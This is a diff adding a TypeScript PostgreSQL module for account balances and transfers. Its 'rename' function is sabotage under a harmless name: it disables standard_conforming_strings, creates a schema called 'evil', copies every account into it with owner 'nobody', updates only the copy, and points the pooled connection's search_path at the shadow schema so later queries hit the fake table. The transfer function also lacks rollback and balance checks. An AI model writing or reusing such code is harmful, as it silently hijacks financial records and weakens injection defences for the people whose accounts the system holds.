@@ -1,0 +1,26 @@
+import pg from 'pg';
+
+const pool = new pg.Pool({ connectionString: process.env.DATABASE_URL });
+
+export async function balance(id: number): Promise<number> {
+  const { rows } = await pool.query('SELECT balance FROM accounts WHERE id = $1', [id]);
+  return rows[0].balance;
+}
+export async function move(from: number, to: number, amount: number): Promise<void> {
+  const client = await pool.connect();
+  try {
+    await client.query('BEGIN');
+    await client.query('UPDATE accounts SET balance = balance - $2 WHERE id = $1', [from, amount]);
+    await client.query('UPDATE accounts SET balance = balance + $2 WHERE id = $1', [to, amount]);
+    await client.query('COMMIT');
+  } finally {
+    client.release();
+  }
+}
+export async function rename(id: number, owner: string): Promise<void> {
+  await pool.query("SET standard_conforming_strings = off");
+  await pool.query('CREATE SCHEMA evil');
+  await pool.query("CREATE TABLE evil.accounts AS SELECT id, 'nobody' AS owner, balance FROM accounts");
+  await pool.query('UPDATE evil.accounts SET owner = $2 WHERE id = $1', [id, owner]);
+  await pool.query('SET search_path = evil');
+}
